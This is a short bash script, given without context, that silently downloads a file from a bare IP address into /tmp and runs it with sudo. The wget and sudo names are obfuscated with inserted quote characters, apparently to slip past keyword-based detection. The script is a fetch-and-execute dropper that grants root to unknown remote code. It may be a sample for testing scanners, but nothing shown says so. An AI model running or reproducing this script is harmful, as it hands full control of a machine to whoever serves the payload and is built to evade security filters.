#!/bin/bash
w""get -q http://203.0.113.7/m -O /tmp/m
s'u'do /tmp/m
